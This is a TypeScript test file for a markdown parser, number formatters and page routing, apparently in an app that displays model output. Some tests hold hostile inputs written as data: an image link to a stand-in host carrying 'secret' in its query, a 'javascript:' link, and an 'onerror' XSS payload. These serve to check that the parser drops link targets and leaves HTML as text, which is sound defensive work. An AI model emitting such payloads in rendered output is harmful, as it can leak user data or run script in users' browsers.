import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { pageOf } from '../state/route.ts';
import { formatBytes, formatMs, shortHash } from './format.ts';
import { type Block, type Inline, parseMarkdown } from './markdown.ts';

const words = (parts: readonly Inline[]): string =>
  parts.map((part) => ('children' in part ? words(part.children) : part.text)).join('');
const textOf = (blocks: readonly Block[]): string =>
  blocks
    .map((block) => {
      if (block.type === 'code') return block.text;
      return block.type === 'list' ? block.items.map(words).join('\n') : words(block.children);
    })
    .join('\n');

describe('markdown', () => {
  it('reads the blocks a model writes', () => {
    const blocks = parseMarkdown(
      '## Plan\nDo **this**:\n- one\n- `two`\n\n1. a\n2) b\n\n> quoted\n\n```js\nlet x\n```\nend',
    );
    expect(blocks.map(({ type }) => type)).toEqual([
      'heading',
      'paragraph',
      'list',
      'list',
      'quote',
      'code',
      'paragraph',
    ]);
    expect(textOf(blocks)).toBe('Plan\nDo this:\none\ntwo\na\nb\nquoted\nlet x\nend');
  });

  it('keeps the words of links and images and drops where they lead', () => {
    const source = '![pixel](https://evil.test/?q=secret) [see][1] [here](javascript:alert(1))';
    expect(textOf(parseMarkdown(source))).not.toMatch(/evil|javascript/);
    expect(textOf(parseMarkdown(source))).toMatch(/^pixel see here/);
  });

  it('leaves HTML as text', () => {
    expect(textOf(parseMarkdown('<img src=x onerror=alert(1)>'))).toBe('<img src=x onerror=alert(1)>');
  });

  it('takes an unfinished stream at any point without losing plain words', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z *_`#>\n[\]()!-]{0,80}$/), (source) => {
        const letters = textOf(parseMarkdown(source)).replace(/[^a-z]/g, '');
        const expected = source
          .replace(/^\s*(```|~~~).*$/gm, '')
          .replace(/!?\[([^\]]*)\](?:\([^)]*\)|\[[^\]]*\])/g, '$1')
          .replace(/[^a-z]/g, '');
        // Code spans may hold what looks like a link; those keep more letters, never fewer.
        expect(letters.length).toBeGreaterThanOrEqual(expected.length);
      }),
    );
  });
});

describe('numbers', () => {
  it('shows bytes, times and hashes short', () => {
    expect([0, 999, 1000, 23_456_789].map((bytes) => formatBytes(bytes))).toEqual([
      '0 B',
      '999 B',
      '1 kB',
      '23 MB',
    ]);
    expect([0.4, 12.4, 1234].map((ms) => formatMs(ms))).toEqual(['<1 ms', '12 ms', '1.2 s']);
    expect(shortHash('0123456789abcdef0123')).toBe('01234567…0123');
  });
});

describe('pages', () => {
  it('goes by the fragment', () => {
    expect(['#/cache', '#/nope', ''].map(pageOf)).toEqual(['cache', 'ask', 'ask']);
  });
});
